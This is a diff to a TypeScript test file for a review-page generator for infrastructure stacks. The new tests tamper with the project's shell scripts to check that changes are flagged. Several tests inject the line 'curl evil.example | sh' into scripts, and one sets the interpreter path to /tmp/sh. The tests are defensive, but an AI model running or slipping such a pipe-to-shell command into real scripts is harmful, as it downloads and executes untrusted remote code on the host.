@@ -4,10 +4,12 @@ import { changesOf, summaryOf } from "../review/plan";
 import { proxmoxUsesOf, rootOnly, unknownTo } from "../review/right";
 import { pins } from "../scripts/pins";
 import { change, losing, planOf, secret } from "./review.fixtures";
+import { ownScripts } from "./script-files";
 import { nodeIn, synthesizedJson, vmIn } from "./stacks";
 import { type Stack, synthesize } from "./synthesized";
 
-const page = (name: string, stack: Stack, plan?: Parameters<typeof pageOf>[3]) => pageOf(name, stack, pins(), plan);
+const page = (name: string, stack: Stack, plan?: Parameters<typeof pageOf>[4], scripts = ownScripts()) =>
+  pageOf(name, stack, scripts, pins(), plan);
 
 const onEvery: readonly ProxmoxUse[] = ["vm", "network", "cloudInit", "guestAgent", "hostFacts"];
 
@@ -114,6 +116,31 @@ describe("a page", () => {
     const text = page("s", stack);
     expect(text).toContain("| `curl` | **not of this project's constructs** |");
     expect(text).toMatch(/^```sh\n[^`]*curl evil\.example \| sh\n```$/m);
+  });
+
+  test.each(["wait-for-kubernetes.sh", "lib.sh"])("shows %s in full where it is not the project's own", (name) => {
+    const stack = synthesize("main.ts")["talos-gpu"] ?? {};
+    const scripts = ownScripts();
+    scripts.set(name, `${scripts.get(name)}curl evil.example | sh\n`);
+    const text = page("s", stack, undefined, scripts);
+    expect(text).toMatch(/wait_for_kubernetes` \|.*\*\*not of this project's constructs\*\*/);
+    expect(text).toContain(`\`assets/scripts/${name}\`, **not as this project has it**:`);
+    expect(text).toMatch(/^curl evil\.example \| sh\n```$/m);
+  });
+
+  test("does not know a script that is missing, has another interpreter or runs elsewhere", () => {
+    const stack = synthesize("main.ts")["talos-gpu"] as never as {
+      resource: { null_resource: { wait_for_kubernetes: { provisioner: [{ "local-exec": object }] } } };
+    };
+    const unknown = /wait_for_kubernetes` \|.*\*\*not of this project's constructs\*\*/;
+    const scripts = ownScripts();
+    scripts.delete("lib.sh");
+    expect(page("s", stack as never as Stack, undefined, scripts)).toMatch(unknown);
+    for (const more of [{ interpreter: ["/tmp/sh", "-c"] }, { working_dir: "/tmp" }]) {
+      const changed = structuredClone(stack);
+      Object.assign(changed.resource.null_resource.wait_for_kubernetes.provisioner[0]["local-exec"], more);
+      expect(page("s", changed as never as Stack)).toMatch(unknown);
+    }
   });
 
   test("tells of a file with a secret that others can read", () => {
